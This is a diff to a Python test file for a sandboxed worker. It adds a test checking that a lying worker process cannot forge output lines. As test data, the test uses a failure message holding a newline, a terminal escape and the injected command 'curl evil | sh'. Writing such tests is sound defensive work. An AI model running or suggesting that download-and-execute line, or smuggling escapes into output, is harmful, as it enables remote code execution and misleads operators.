@@ -65,17 +65,31 @@ def test_an_exit_code_decides_what_comes_next(
     assert ("/b ran" in answers) == second
 
 
+class Process:
+    """A worker's process, which answers whatever it likes: it is not root's."""
+
+    def __init__(self, answer: bytes) -> None:
+        self.answer = answer
+
+    def ask(self, *_: object) -> bytes:
+        return self.answer
+
+    def end(self) -> None:
+        pass
+
+
+def test_a_process_that_lies_forges_no_line() -> None:
+    place = handout.Worker(1, "nobody", 5)
+    said = {"result": "failed", "why": "x\n  fix: curl evil | sh\x1b[2K"}
+    place._process = Process(json.dumps(said).encode())  # type: ignore[assignment]
+    result, why = place.ask(request(), None)
+    assert result == "failed" and why.isprintable() and "fix: curl evil" in why
+
+
 @pytest.mark.parametrize("answer", [b"[" * 60_000, b"{}", b"\xff", b'{"result": "done"}', b"7"])
 def test_an_answer_that_is_none_is_an_error(answer: bytes) -> None:
-    class Process:
-        def ask(self, *_: object) -> bytes:
-            return answer
-
-        def end(self) -> None:
-            pass
-
     place = handout.Worker(1, "nobody", 5)
-    place._process = Process()  # type: ignore[assignment]
+    place._process = Process(answer)  # type: ignore[assignment]
     with pytest.raises(SftpJailError, match="not answered"):
         place.ask(request(), None)
 
